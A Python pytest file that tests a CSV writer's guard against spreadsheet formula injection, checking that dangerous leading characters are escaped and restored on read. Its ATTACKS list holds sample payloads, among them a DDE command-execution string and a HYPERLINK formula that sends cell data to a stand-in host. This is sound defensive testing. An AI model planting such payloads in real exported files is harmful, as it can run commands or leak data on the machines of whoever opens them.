"""Cells of CSV that a spreadsheet would compute are made harmless, and come back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opledger.records import Conflict, Release
from opledger.tables import TableWriter
from opledger.tables.formula import guard, unguard
from opledger.tables.read import read_table

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "'tis",
    "-",
    "",
]


@given(st.text(st.sampled_from("'=+-@\t\r\n＝a1 ") | st.characters(codec="utf-8"), max_size=8))
def test_what_is_guarded_comes_back(text: str) -> None:
    cell = guard(text)
    assert unguard(cell) == text
    assert not cell.startswith(DANGEROUS)
    assert cell in (text, f"'{text}")


@given(st.text(st.characters(codec="utf-8", exclude_characters="'=+-@\t\r\n＝＋－＠"), min_size=1))
def test_a_harmless_text_is_left_alone(text: str) -> None:
    assert guard(text) == text == unguard(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_file_is_a_formula(tmp_path: Path, attack: str) -> None:
    release = Release(
        attack or "r", attack, attack, None, attack, None, "", attack, metadata={"note": attack}
    )
    with TableWriter(tmp_path, "csv") as tables:
        tables.add("releases", release)
    with (tmp_path / "releases.csv").open(encoding="utf-8", newline="") as file:
        cells = next(iter(csv.DictReader(file)))
    assert [cell for cell in cells.values() if cell.startswith(DANGEROUS)] == []
    (row,) = read_table(tmp_path, "releases")
    assert (row["release_id"], row["path"], row["title"] or "", row["text"]) == (attack or "r", *[attack] * 3)
    assert row["metadata"] == {"note": attack}


def test_a_negative_number_stays_a_number(tmp_path: Path) -> None:
    with TableWriter(tmp_path, "csv") as tables:
        tables.add("conflicts", Conflict("c", "o", None, "superseded", "arrests", (), -2.5, "-2.5 off"))
    assert ',-2.5,"\'-2.5 off"\n' in (tmp_path / "conflicts.csv").read_text(encoding="utf-8")
    assert next(read_table(tmp_path, "conflicts"))["difference"] == -2.5


def test_a_byte_order_mark_that_a_spreadsheet_put_there_does_no_harm(tmp_path: Path) -> None:
    with TableWriter(tmp_path, "csv") as tables:
        tables.add("conflicts", Conflict("c", "o", None, "superseded", "arrests", (), 1, "why"))
    file = tmp_path / "conflicts.csv"
    assert not file.read_bytes().startswith(b"\xef\xbb\xbf")
    file.write_bytes(b"\xef\xbb\xbf" + file.read_bytes())
    assert next(read_table(tmp_path, "conflicts"))["conflict_id"] == "c"
